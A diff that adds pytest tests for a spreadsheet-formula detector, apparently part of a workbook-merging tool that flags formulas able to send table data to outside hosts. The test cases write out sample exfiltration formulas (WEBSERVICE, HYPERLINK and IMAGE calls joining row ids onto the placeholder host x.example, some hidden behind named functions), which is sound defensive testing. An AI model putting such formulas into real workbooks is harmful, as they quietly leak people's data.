@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from workbook.merge.exposure import Exposure, looked_at, sentences
+from workbook.merge.exposure import Exposure, looked_at, sends, sentences
 
 
 @pytest.mark.parametrize(
@@ -52,3 +52,32 @@ def test_connections_to_the_outside_are_counted() -> None:
 
 def test_a_workbook_with_nothing_of_it_needs_no_word() -> None:
     assert list(sentences(Exposure((looked_at("Sheet1", True, ["=1+1"]),)))) == []
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        '_xlfn.WEBSERVICE("https://x.example/"&Contacts[[#This Row],[id]])',
+        'HYPERLINK("https://x.example/"&A2,"open")',
+        'IFERROR(_xlfn.IMAGE("https://x.example/"&[@id]),"")',
+        "['[x]&_xlfn.WEBSERVICE([@id])&['[y]",
+        "out([@id])",
+        "address",
+    ],
+)
+def test_a_formula_that_can_send_what_it_reads_away_is_seen(formula: str) -> None:
+    names = {"Out": ["_xlfn.LAMBDA(x,far(x))"], "far": ["_xlfn.WEBSERVICE(x)"]}
+    assert sends(formula, {**names, "address": ['_xlfn.WEBSERVICE("https://x.example"&$A2)']})
+
+
+@pytest.mark.parametrize(
+    "formula",
+    ["LEN([@name])", '"WEBSERVICE("&[@id]', 'HYPERLINK("https://x.example")', "'RTD('!A2"],
+)
+def test_a_formula_that_sends_nothing_of_the_table_is_none(formula: str) -> None:
+    assert not sends(formula, {})
+
+
+def test_a_function_behind_a_title_with_an_apostrophe_is_seen() -> None:
+    sheet = looked_at("Data", False, ["=['[x]&WEBSERVICE([@id])&['[y]"])
+    assert sheet.senders == {"WEBSERVICE"}
